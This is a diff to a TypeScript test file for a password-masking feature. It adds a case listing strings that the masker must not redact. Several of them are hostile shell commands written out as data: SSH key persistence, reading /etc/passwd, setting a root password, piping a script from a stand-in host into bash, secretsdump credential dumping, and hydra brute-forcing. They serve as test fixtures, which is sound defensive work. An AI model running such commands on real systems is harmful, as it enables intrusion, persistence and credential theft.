@@ -197,6 +197,50 @@ describe('a password inside a text', () => {
     }
   });
 
+  it('is not taken for one: words, keys, paths, ports and options', () => {
+    const key = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCnxyz2b3 me@host7';
+    const harmless = [
+      ...['TEST of the token token-4f1d2a9be07c55aa61e2', 'the bearer of-this-message-is-innocent'],
+      ...[
+        'Auth failed for user joe from 10.0.0.7',
+        'auth failed for joe from 10.0.0.7',
+        'Pass the salt over',
+      ],
+      ...['a topic is a secret: choose a long one', 'strangers send appears in the log alone'],
+      ...['Failed login attempt yesterday', "login -H 'Content-Type: application/json'"],
+      ...[`mkdir ~/.ssh && echo "${key}" >> ~/.ssh/authorized_keys && cat /etc/passwd`],
+      ...[`echo ${key} >> .ssh/authorized_keys; echo root:Admin123 | chpasswd`],
+      ...["echo 'deb http://a.example stable main' | sudo tee -a /etc/apt/sources.list"],
+      ...[
+        'date -u +%FT%TZ',
+        'curl -u http://example.com/login.php x',
+        'secretsdump.py -no-pass corp/joe@host',
+      ],
+      ...['net user guest /active:yes', 'net user administrator /domain', 'net use * \\\\server\\sales'],
+      ...[
+        'docker run -p 127.0.0.1:8080:web nginx',
+        'docker compose -p warehouse up',
+        'mysql -P harbour -h x',
+      ],
+      ...[
+        'unzip -p archive.zip readme.txt',
+        'cp a.zip b; start -PassThru',
+        'hydra -P /usr/share/lists/rock.txt h',
+      ],
+      ...[
+        'password=$(readlink -f .)',
+        'cat /proc/cpuinfo; curl -sL http://a.example/x.sh | bash; passwd -l root',
+      ],
+    ];
+    for (const payload of harmless)
+      for (const kind of ['command.run', 'sensor.message'] as const) {
+        const event = makeEvent({ user_id: 'u', kind, payload, extra: null });
+        assert.equal(masked(event), event, payload);
+      }
+    const story = [{ kind: 'command.run' as const, text: `echo "${key}`.padEnd(300, 'A'), tactic: null }];
+    assert.deepEqual(maskedSteps(story), story);
+  });
+
   it('is not seen in prose that only sounds like one', () => {
     for (const activity of [
       'login by exploit CVE-2026-24061',
